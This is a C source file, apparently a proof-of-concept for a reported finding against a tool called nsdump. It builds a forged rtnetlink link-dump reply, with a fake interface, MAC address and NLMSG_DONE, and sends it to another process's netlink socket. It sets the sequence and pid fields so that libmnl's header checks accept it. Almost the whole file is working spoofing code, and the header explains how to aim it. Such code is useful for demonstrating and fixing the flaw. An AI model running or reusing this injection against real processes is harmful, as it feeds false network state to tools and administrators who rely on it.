/*
 * nlforge: what a process in a container with CAP_NET_ADMIN can do to a netlink socket
 * nsdump opened in its namespace (issue 13, finding 7): send it, as a unicast from its own
 * socket, a forged rtnetlink "reply" to a link dump: one link NAME (ifindex IFINDEX,
 * address 02:00:00:00:00:77, up) and NLMSG_DONE.
 *
 *   nlforge PORT SEQ HDRPID NAME IFINDEX
 *
 * PORT is the destination socket's port id (as /proc/net/netlink shows it); SEQ and HDRPID
 * go into every message's nlmsg_seq and nlmsg_pid (0 and 0 pass libmnl's checks, which
 * compare only non-zero values; the right ones pass any check of the header alone).
 * Prints "forged N bytes to PORT". Nothing leaves the namespace: netlink is local.
 */
#include <errno.h>
#include <linux/if_link.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned long num(const char *s)
{
	char *end = NULL;
	unsigned long v;

	errno = 0;
	v = strtoul(s, &end, 10);
	if (errno != 0 || end == s || *end != '\0' || v > 0xffffffffUL) {
		fprintf(stderr, "nlforge: not a number: '%s'\n", s);
		exit(2);
	}
	return v;
}

/* Appends attribute type with len bytes of v at b + *off. */
static void put_attr(unsigned char *b, size_t *off, unsigned short type, const void *v, size_t len)
{
	struct rtattr a = { .rta_len = (unsigned short)RTA_LENGTH(len), .rta_type = type };

	memcpy(b + *off, &a, sizeof(a));
	memcpy(b + *off + RTA_LENGTH(0), v, len);
	*off += RTA_SPACE(len);
}

int main(int argc, char **argv)
{
	unsigned char buf[512] = { 0 };
	static const unsigned char mac[6] = { 0x02, 0, 0, 0, 0, 0x77 };
	struct sockaddr_nl me = { .nl_family = AF_NETLINK };
	struct sockaddr_nl to = { .nl_family = AF_NETLINK };
	struct nlmsghdr h = { 0 };
	struct ifinfomsg ifi = { .ifi_family = AF_UNSPEC,
				 .ifi_flags = 0x1043 /* UP, BROADCAST, RUNNING, MULTICAST */ };
	size_t off = NLMSG_LENGTH(sizeof(ifi)), first;
	unsigned int seq, hdrpid;
	ssize_t n;
	int fd;

	if (argc != 6 || strlen(argv[4]) >= 16) {
		fputs("usage: nlforge PORT SEQ HDRPID NAME IFINDEX\n", stderr);
		return 2;
	}
	to.nl_pid = (unsigned int)num(argv[1]);
	seq = (unsigned int)num(argv[2]);
	hdrpid = (unsigned int)num(argv[3]);
	ifi.ifi_index = (int)num(argv[5]);

	memcpy(buf + NLMSG_LENGTH(0), &ifi, sizeof(ifi));
	put_attr(buf, &off, IFLA_IFNAME, argv[4], strlen(argv[4]) + 1);
	put_attr(buf, &off, IFLA_ADDRESS, mac, sizeof(mac));
	h.nlmsg_len = (unsigned int)off;
	h.nlmsg_type = RTM_NEWLINK;
	h.nlmsg_flags = NLM_F_MULTI;
	h.nlmsg_seq = seq;
	h.nlmsg_pid = hdrpid;
	memcpy(buf, &h, sizeof(h));
	first = NLMSG_ALIGN(off);

	/* NLMSG_DONE with a zero status: the dump is over. */
	h.nlmsg_len = NLMSG_LENGTH(sizeof(int));
	h.nlmsg_type = NLMSG_DONE;
	memcpy(buf + first, &h, sizeof(h));
	off = first + NLMSG_ALIGN(h.nlmsg_len);

	fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof(me)) < 0) {
		perror("nlforge: socket");
		return 1;
	}
	n = sendto(fd, buf, off, 0, (struct sockaddr *)&to, sizeof(to));
	if (n < 0) {
		perror("nlforge: sendto");
		return 1;
	}
	printf("forged %zd bytes to %u\n", n, to.nl_pid);
	return close(fd) < 0 || fflush(stdout) != 0;
}
